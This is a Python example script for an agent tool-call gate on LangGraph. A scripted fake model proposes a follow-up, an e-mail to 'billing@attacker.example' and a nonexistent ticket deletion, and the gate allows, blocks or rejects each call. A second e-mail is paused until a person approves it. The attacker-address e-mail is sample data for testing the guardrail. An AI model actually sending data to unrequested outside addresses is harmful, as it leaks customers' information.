"""The support desk on LangGraph, offline: LangChain's fake chat model, the reference
contracts and policies, the simulator, a SQLite receipt store and LangGraph's in-memory
checkpointer (an ``interrupt`` needs one).

Two user turns. In the first the model proposes an allowed write (a follow-up), a forbidden
call (an e-mail to an address the conversation never gave) and a call to a tool that does
not exist; in the second, an e-mail that needs a person's confirmation: the graph stops at
an ``interrupt`` showing the gate's draft, Dana approves, the graph resumes. Prints
``<tool> <route>`` for each decision, then the number of writes the simulator received.

    python examples/frameworks/langgraph_agent.py
"""

from __future__ import annotations

import asyncio
import sys
import tempfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import yaml
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.types import Command

from callgate_rules.harness.simulator import Simulator
from callgate_rules.harness.world import WorldResolvers
from callgate_rules.integrations.frameworks.langgraph import CallgateToolNode, route_tools
from callgate_rules.pipeline.asynchronous import AsyncGate
from callgate_rules.pipeline.decision import Decision

REPO = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)


def calls(*proposed: tuple[str, str, dict[str, Any]]) -> AIMessage:
    return AIMessage(content="", tool_calls=[{"id": call_id, "name": name, "args": args}
                                             for call_id, name, args in proposed])


SCRIPT = [
    calls(("tc_1", "createFollowUp", {"ticketId": "T-1001", "assigneeId": "U-7",
                                      "dueAt": "2026-12-03T09:00:00Z"}),
          ("tc_2", "sendEmail", {"to": "billing@attacker.example", "subject": "Invoice",
                                 "body": "Here is the invoice."}),
          ("tc_3", "deleteTicket", {"ticketId": "T-1001"})),
    AIMessage(content="The follow-up is created; I cannot send that e-mail or delete tickets."),
    calls(("tc_4", "sendEmail", {"to": "anna.petrova@northwind.example",
                                 "subject": "Your ticket T-1001",
                                 "body": "Hello Anna, we are on it."})),
    AIMessage(content="The e-mail to Anna is sent."),
]


def show(decision: Decision) -> None:
    print(decision.tool or decision.log.get("tool"), decision.route)


def build(gate: AsyncGate, model: Any) -> Any:
    async def agent(state: MessagesState) -> dict[str, Any]:
        return {"messages": [await model.ainvoke(state["messages"])]}

    graph = StateGraph(MessagesState)
    graph.add_node("agent", agent)
    graph.add_node("tools", CallgateToolNode(gate, on_decision=show))
    graph.add_edge(START, "agent")
    graph.add_conditional_edges("agent", route_tools)
    graph.add_edge("tools", "agent")
    return graph.compile(checkpointer=InMemorySaver())


async def main(store_directory: str) -> int:
    world = yaml.safe_load((REPO / "examples" / "world.yaml").read_text())
    dana = yaml.safe_load((REPO / "examples" / "actors" / "dana.yaml").read_text())
    simulator = Simulator(world)
    gate = AsyncGate.from_paths(
        REPO / "contracts", REPO / "policies", resolvers=WorldResolvers(world),
        executors=simulator.executors(), finder=simulator.find,
        store=f"sqlite:///{store_directory}/receipts.sqlite3", clock=lambda: NOW)
    app = build(gate, GenericFakeChatModel(messages=iter(SCRIPT)))
    # The actor comes from the application's session, in the run's config.
    config: Any = {"configurable": {"thread_id": "desk-1", "actor": dana}}

    await app.ainvoke({"messages": [HumanMessage("Follow up on T-1001, mail the invoice, "
                                                 "drop the ticket.")]}, config)
    state = await app.ainvoke({"messages": [HumanMessage(
        "Tell Anna Petrova (anna.petrova@northwind.example) we are on it.")]}, config)
    while state.get("__interrupt__"):  # a write waits for a person: the gate's draft
        for pending in state["__interrupt__"]:
            assert pending.value["draft"], "the gate's draft is what the person reads"
        state = await app.ainvoke(Command(resume={"approved": True, "by": "dana"}), config)
    print(simulator.write_count())
    return 0


if __name__ == "__main__":
    with tempfile.TemporaryDirectory(prefix="callgate-langgraph-") as directory:
        sys.exit(asyncio.run(main(directory)))
